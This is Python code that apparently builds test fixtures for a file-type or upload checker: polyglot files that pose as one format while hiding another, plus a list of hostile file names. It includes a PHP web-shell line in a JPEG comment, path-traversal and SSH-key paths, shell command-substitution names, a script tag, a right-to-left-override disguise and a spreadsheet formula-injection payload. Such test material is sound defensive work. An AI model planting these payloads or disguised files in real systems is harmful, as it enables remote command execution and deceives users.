RTF = b"{\\rtf1\\ansi words}"
CLASS = b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(100)
MP4 = struct.pack(">I", 24) + b"ftypisom\0\0\2\0isomiso2" + struct.pack(">I", 8) + b"mdat"
OGG = b"OggS\0\2" + bytes(40) + b"vorbis" + bytes(40)
FLAC = b"fLaC\0\0\0\x22" + bytes(60)


def polyglots() -> dict[str, tuple[str, bytes]]:
    """Return name and bytes of exhibits with two faces, by what they are."""
    behind = zipped({"hidden.txt": b"hidden words"})
    letter = package("word", {})
    fronts = {
        "pdf": PDF, "gif": GIF, "jpg": jpeg(1, 1), "png": png(1, 1), "bmp": BMP, "tif": tiff(1, 1), "webp": webp(),
        "html": HTML, "txt": b"plain words\n" * 20, "eml": MAIL, "rtf": RTF, "elf": elf(), "exe": exe(),
        "mp3": sound(), "wav": wave(), "mp4": MP4, "ogg": OGG, "flac": FLAC, "class": CLASS,
        "gz": gzip.compress(b"words"), "xml": b"<?xml version='1.0'?><x/>", "json": b'{"a": 1}\n',
        "csv": b"a,b,c\n1,2,3\n4,5,6\n", "sh": b"#!/bin/sh\nexit 0\n", "ps": b"%!PS-Adobe-3.0\n",
    }  # fmt: skip
    made = {f"{name}+zip": (f"a.{name}", front + behind) for name, front in fronts.items()}
    made["rtf+docx"] = ("a.rtf", RTF + letter)
    made["zip in a pdf before its end"] = ("a.pdf", PDF + behind + b"\n%%EOF\n")
    pages = {
        "gif": GIF[:-1] + b"!\xfe" + bytes([len(HTML)]) + HTML + b"\0;", "png": png(1, 1, text=HTML), "bmp": BMP + HTML,
        "jpg": jpeg(1, 1, comment=HTML), "webp": webp(HTML), "mp3": sound(HTML), "wav": wave() + HTML, "mp4": MP4 + HTML,
        "gz": gzip.compress(b"words") + HTML, "tif": tiff(1, 1) + HTML,
    }  # fmt: skip
    made.update({f"{name}+html": (f"a.{name}", content) for name, content in pages.items()})
    made["jpg+php"] = ("a.jpg", jpeg(1, 1, comment=b"<?php system($_GET[0]); ?>"))
    made["gif+php"] = ("a.gif", GIF + b"<?php echo 1; ?>")
    fronts_of_pdf = {
        "mp3": sound()[:400], "jpg": jpeg(1, 1), "png": png(1, 1), "gif": GIF, "html": HTML, "exe": exe()[:200],
        "bmp": BMP, "rtf": RTF, "elf": elf()[:200],
    }  # fmt: skip
    made.update({f"{name}+pdf": (f"a.{name}", front + b"\n" + PDF) for name, front in fronts_of_pdf.items()})
    made["jpg+rar"] = ("a.jpg", jpeg(1, 1, behind=b"Rar!\x1a\x07\x01\x00" + bytes(50)))
    made["png+7z"] = ("a.png", png(1, 1, behind=written("7zip", {"a": b"hidden"})))
    made["gif+elf"] = ("a.gif", GIF + elf())
    made["pdf+exe"] = ("a.pdf", PDF + exe())
    made["bmp+exe"] = ("a.bmp", BMP + exe())
    made["tar+exe"] = ("a.tar", tarred({"MZ\udc90": b"words"}))
    made["tar+gif"] = ("a.gif", tarred({"GIF89a": b"words"}))
    disc = bytearray(written("iso9660", {"a": b"words"}))
    for name, front in (("pdf", PDF), ("exe", exe()), ("gif", GIF)):
        made[f"{name}+iso"] = (f"a.{name}", front + bytes(disc[len(front) :]))
    made["exe+dicom"] = ("a.dcm", exe()[:128] + b"DICM" + exe()[132:] + bytes(100))
    return made


NAMES = (
    "../climbing", "../../../../tmp/climbing", "/absolute", "//double", "C:\\con.txt", "..\\..\\climbing", "a/../../b",
    "~/.ssh/authorized_keys", "nul\x00l.txt", "\u202egpj.exe", "a\nb", "a\tb", ".", "..", " ", "-rf", "$(id)", "`id`",
    "con", "a" * 300, "\u0631\u0633\u0627\u0644\u0629", "<script>alert(1)</script>", "%2e%2e%2f", "=cmd|' /C calc'!A0",
)  # fmt: skip
